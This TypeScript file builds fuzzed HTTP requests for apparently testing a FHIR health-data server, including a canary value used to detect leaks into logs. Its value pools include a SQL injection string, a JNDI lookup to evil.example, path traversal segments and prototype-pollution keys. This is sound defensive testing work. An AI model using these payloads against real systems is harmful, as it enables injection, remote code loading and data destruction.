import fc from 'fast-check'
import { plainRequest } from './plain-requests.ts'

/** A request as it goes over the wire: every part may be nonsense, but the message ends where it says. */
export interface FuzzedRequest {
  /** Index into the callers of the test. */
  readonly caller: number
  readonly method: string
  /** Below the base; Latin-1. */
  readonly target: string
  readonly headers: readonly (readonly [name: string, value: string])[]
  readonly body?: string
  /** Which of its answers the server gives. */
  readonly answer: number
}

/** Stands in values of requests, where no log, metric or error may repeat it. */
export const CANARY = 'zq7canary'

const types = ['Patient', 'Observation', 'Condition', 'Encounter', 'Practitioner', 'Binary', 'Bundle', 'List', 'Group']
const oddTypes = ['patient', 'Pateint', 'Resource', 'DomainResource', 'Parameters', 'OperationOutcome', '__proto__']
const ids = ['1', 'p01', CANARY, 'a.b-c', '..', '.', '%2e%2e', 'a'.repeat(64), 'a'.repeat(65), 'constructor', '_id']
const words = [
  '_history',
  '_search',
  '*',
  '$everything',
  '$lastn',
  '$validate',
  '$meta',
  '$purge',
  '$graphql',
  'metadata',
]
const more = ['.well-known', 'smart-configuration', '', '%00', '%2f', '%5c', ';x', '%252e', '\xe4', 'admin', 'metrics']
const names = [
  ...['_id', '_lastUpdated', '_tag', '_type', '_count', '_sort', '_summary', '_elements', '_total', '_format', '_page'],
  ...['_include', '_revinclude', '_include:iterate', '_has:Observation:patient:code', '_filter', '_query', '_list'],
  ...['name', 'code', 'date', 'status', 'subject', 'patient', 'patient.name', 'subject:Patient.name', 'subject.name'],
  ...[
    'general-practitioner.name',
    'encounter.service-provider.name',
    '_has:Condition:subject:_has:Provenance:target:_id',
  ],
  ...[
    'name:exact',
    'code:in',
    'code:not',
    'subject:missing',
    'access_token',
    '__proto__',
    'hasOwnProperty',
    '',
    '%5Fid',
  ],
]
const values = [
  ...[CANARY, '1', 'a,b', 'a\\,b', 'gt2024-01-01', 'http://loinc.org|8867-4', '|x', 'Patient/1', 'Observation:subject'],
  ...[
    '*',
    'Patient:*',
    'Observation:patient:Patient',
    'Provenance:target',
    '-date,code',
    'true',
    'count',
    '0',
    '-1',
    '1e9',
  ],
  ...[
    'json',
    'xml',
    'application/fhir+json',
    '%',
    '%zz',
    '%00',
    '%ff',
    '%C3%28',
    '%26_id=2',
    '%23',
    '+',
    'a+b',
    '=',
    '==',
    '?',
  ],
  ...['http://evil.example/Patient/1', '../Patient/2', "'; DROP TABLE patient;--", '{jndi:ldap://evil.example/a}', ''],
]
const headerPool: readonly (readonly [string, readonly string[]])[] = [
  ['Accept', ['*/*', 'application/fhir+json', 'application/fhir+xml', 'text/html', 'application/json;q=0', ',,']],
  ['Prefer', ['return=minimal', 'handling=lenient', 'respond-async', 'return=x', `return=${CANARY}`]],
  ['If-Match', ['W/"1"', '"1"', '*', 'W/"1", W/"2"', CANARY]],
  ['If-None-Match', ['W/"1"', '*', 'x']],
  ['If-Modified-Since', ['Sat, 29 Oct 1994 19:43:31 GMT', 'yesterday']],
  ['If-None-Exist', ['_id=1', `name=${CANARY}`, '', '?_id=1', 'subject.name=a', '%']],
  ['X-Forwarded-For', ['6.6.6.6', CANARY]],
  ['X-Request-Id', ['abc-1', CANARY, 'a b', 'a'.repeat(200)]],
  ['X-HTTP-Method-Override', ['DELETE']],
  ['Connection', ['keep-alive', 'X-Request-Id', 'Upgrade', 'Authorization']],
  ['Upgrade', ['h2c', 'websocket']],
  ['Content-Encoding', ['gzip', 'identity']],
  ['traceparent', ['00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', CANARY]],
  ['Cookie', [CANARY]],
  ['__proto__', ['x']],
]
const contentTypes = [
  ...['application/fhir+json', 'application/json', 'application/json-patch+json', 'application/x-www-form-urlencoded'],
  ...[
    'application/fhir+json; charset=utf-8',
    'application/fhir+json;fhirVersion=5.0',
    'text/plain',
    'application/xml',
    '',
  ],
]

const nasty = fc.constantFrom(...'/%.;\\?#&=+|,:$*_~"\'<>{}[]()^`!@-aZ09 \t\x01\x7f\x80\xff')
const pick = (from: readonly string[]) => fc.constantFrom(...from)

/** `text`, mostly as it is, else with a few characters put in, replaced, encoded or cut off. */
function mutated(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const changes = fc.array(fc.tuple(fc.nat(), fc.nat(3), nasty), { minLength: 1, maxLength: 3 })
  const changed = fc.tuple(text, changes).map(([from, list]) => list.reduce(applied, from))
  return fc.oneof({ weight: 4, arbitrary: text }, { weight: 1, arbitrary: changed })
}

function applied(text: string, [place, how, character]: [number, number, string]): string {
  const at = text.length === 0 ? 0 : place % (text.length + 1)
  const escaped = `%${text
    .charCodeAt(at % Math.max(1, text.length))
    .toString(16)
    .padStart(2, '0')}`
  if (how === 0) return text.slice(0, at) + character + text.slice(at)
  if (how === 1) return text.slice(0, at) + character + text.slice(at + 1)
  if (how === 2 && text.length > 0) return text.slice(0, at) + escaped + text.slice(at + 1)
  return text.slice(0, at)
}

const path = fc
  .oneof(
    { weight: 3, arbitrary: fc.tuple(pick(types)) },
    { weight: 5, arbitrary: fc.tuple(pick(types), pick(ids)) },
    { weight: 3, arbitrary: fc.tuple(pick(types), pick(words)) },
    { weight: 3, arbitrary: fc.tuple(pick(types), pick(ids), pick([...words, ...types])) },
    { weight: 2, arbitrary: fc.tuple(pick(types), pick(ids), pick(words), pick(ids)) },
    { weight: 1, arbitrary: fc.array(pick([...types, ...oddTypes, ...ids, ...words, ...more]), { maxLength: 6 }) },
  )
  .map((segments) => `/${segments.join('/')}`)
const pair = fc.tuple(pick(names), pick(values)).map(([name, value]) => `${name}=${value}`)
const query = fc.array(pair, { maxLength: 4 }).map((pairs) => (pairs.length > 0 ? `?${pairs.join('&')}` : ''))

const json = fc.oneof(
  pick([
    ...[...types, ...oddTypes].map((type) => `{"resourceType":"${type}","id":"1"}`),
    ...['{}', '[]', 'null', '', '{', '\xef\xbb\xbf{}', '{"a":1,"a":2}', `${'['.repeat(200)}${']'.repeat(200)}`, '\xff'],
    ...['[{"op":"replace","path":"/active","value":true}]', '{"resourceType":"Parameters","parameter":[]}'],
    ...[`{"resourceType":"Patient","name":[{"family":"${CANARY}"}]}`, '{"resourceType":"Patient","x":1e400}'],
    '{"resourceType":"Observation","subject":{"reference":"Patient?name=a"},"valueQuantity":{"value":1.10}}',
  ]),
  fc
    .record({
      type: pick(['batch', 'transaction', 'collection', '']),
      entries: fc.array(fc.tuple(path, query, pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'X'])), {
        maxLength: 5,
      }),
    })
    .map(bundleText),
)

function bundleText({ type, entries }: { type: string; entries: [string, string, string][] }): string {
  const entry = entries.map(([target, search, method]) => ({
    ...(/^P/.test(method) && { resource: { resourceType: target.split('/')[1], id: target.split('/')[2] } }),
    request: { method, url: target.slice(1) + search },
  }))
  return JSON.stringify({ resourceType: 'Bundle', type, entry })
}

const header = fc
  .constantFrom(...headerPool)
  .chain(([name, choices]) => fc.tuple(fc.constant(name), mutated(pick(choices))))
  .map(([name, value]) => [name, value.replaceAll(/[\x00-\x1f\x7f]/g, '')] as const)
const contentType = mutated(pick(contentTypes)).map(
  (value) => ['Content-Type', value.replaceAll(/[\x00-\x1f\x7f]/g, '')] as const,
)
const body = fc.tuple(contentType, mutated(fc.oneof({ weight: 4, arbitrary: json }, { weight: 1, arbitrary: query })))

const wild = fc
  .record({
    method: pick(['GET', 'GET', 'HEAD', 'POST', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PURGE', 'get']),
    target: mutated(fc.tuple(path, query).map(([below, search]) => below + search)),
    content: fc.option(body),
  })
  .map(({ content, method, target }) =>
    content === null || !/^P/.test(method)
      ? { method, target }
      : { method, target, contentType: content[0][1], body: content[1] },
  )

/** A request with a meaning, one in two with a few characters of its target or body changed. */
const nearlyRight = fc
  .tuple(plainRequest, fc.constantFrom('as it is', 'as it is', 'target', 'body'))
  .chain(([plain, what]) => {
    if (what === 'target') return mutated(fc.constant(plain.target)).map((target) => ({ ...plain, target }))
    if (what === 'body' && plain.body !== undefined)
      return mutated(fc.constant(plain.body)).map((changed) => ({ ...plain, body: changed }))
    return fc.constant(plain)
  })

/** Requests that are right, nearly right, and such as no client would send. */
export function fuzzedRequest(callers: number, answers: number): fc.Arbitrary<FuzzedRequest> {
  return fc
    .record({
      caller: fc.nat(callers - 1),
      request: fc.oneof({ weight: 2, arbitrary: nearlyRight }, { weight: 1, arbitrary: wild }),
      headers: fc.oneof(fc.constant([]), fc.array(header, { maxLength: 3 })),
      answer: fc.nat(answers - 1),
    })
    .map(({ request: { contentType: type, ...request }, headers, ...rest }) => ({
      ...rest,
      ...request,
      headers: type === undefined ? headers : [...headers, ['Content-Type', type] as const],
    }))
}
